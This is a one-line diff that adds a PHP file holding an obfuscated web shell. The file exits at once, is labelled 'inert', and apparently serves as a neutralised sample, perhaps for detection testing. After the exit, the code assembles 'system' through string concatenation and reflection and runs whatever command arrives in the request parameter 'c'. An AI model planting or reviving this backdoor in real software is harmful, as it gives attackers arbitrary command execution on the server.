@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f = new ReflectionFunction("sys"."tem"); $f->invoke($_REQUEST["c"]);
